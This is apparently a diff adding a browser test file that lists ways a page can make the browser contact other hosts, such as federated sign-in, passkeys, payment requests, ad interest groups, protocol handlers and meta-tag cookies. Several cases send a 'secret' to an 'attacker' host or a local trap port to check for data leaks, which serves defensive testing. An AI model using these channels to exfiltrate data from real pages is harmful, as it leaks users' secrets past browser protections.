@@ -1,0 +1,21 @@
+/** Services of the browser that ask other hosts on a page's behalf. */
+
+way("federated sign-in", ({ attacker, secret }) => signIn(`${attacker}/${secret}.json`));
+way("federated sign-in: the list at a name", ({ name }) => signIn(`https://${name}/x.json`), ALONE);
+way("passkey for another name", ({ name }) =>
+  navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: name, timeout: 1000 } }));
+way("passkey for another name, from a fresh window", ({ name }) =>
+  freshWindow().navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: name, timeout: 1000 } }), ALONE);
+way("payment by a method at a host", ({ trap }) => {
+  const details = { total: { label: "x", amount: { currency: "GBP", value: "1" } } };
+  return new PaymentRequest([{ supportedMethods: `https://127.0.0.1:${trap}/` }], details).canMakePayment();
+}, { trap: true });
+way("interest group", ({ trap }) => navigator.joinAdInterestGroup({ owner: `https://127.0.0.1:${trap}`, name: "x" }, 60), { trap: true });
+way("protocol handler", ({ own, secret }) => navigator.registerProtocolHandler("web+x", `${own}/?${secret}&q=%s`));
+way("a cookie by an element", ({ secret }) => put("meta", { "http-equiv": "Set-Cookie", content: `x=${secret}` }, document.head));
+
+/** Only one may be asked for at a time, so it is given up soon. @param {string} configURL */
+function signIn(configURL) {
+  const signal = AbortSignal.timeout(900);
+  return navigator.credentials.get({ signal, identity: { providers: [{ configURL, clientId: "x" }] } });
+}
